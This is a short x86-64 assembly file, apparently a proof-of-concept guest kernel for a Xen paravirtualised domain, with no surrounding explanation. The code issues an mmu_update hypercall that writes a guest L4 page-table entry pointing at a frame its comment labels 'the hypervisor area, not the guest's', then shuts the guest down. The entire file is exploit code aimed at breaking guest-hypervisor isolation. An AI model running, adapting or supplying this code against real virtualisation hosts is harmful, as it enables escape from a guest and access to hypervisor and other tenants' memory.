    .code64
_start:
    /* rsi = start_info; pt_base at +88 is the L4's virtual address */
    mov 88(%rsi), %rax
    movabs $0xffffffff80000000, %rcx
    sub %rcx, %rax              /* machine address of L4 entry 0 */
    lea req(%rip), %rdi
    mov %rax, (%rdi)            /* writable? our kernel image is mapped RW */
    mov $1, %esi
    xor %edx, %edx
    mov $0x7ff0, %r10d
    mov $1, %eax
    syscall
    lea reason0(%rip), %rsi
    mov $2, %edi
    mov $29, %eax
    syscall
1:  jmp 1b
reason0: .long 0
    .balign 8
req: .quad 0
     .quad 0x1000000007      /* frame 0x1000000: the hypervisor area, not the guest's */
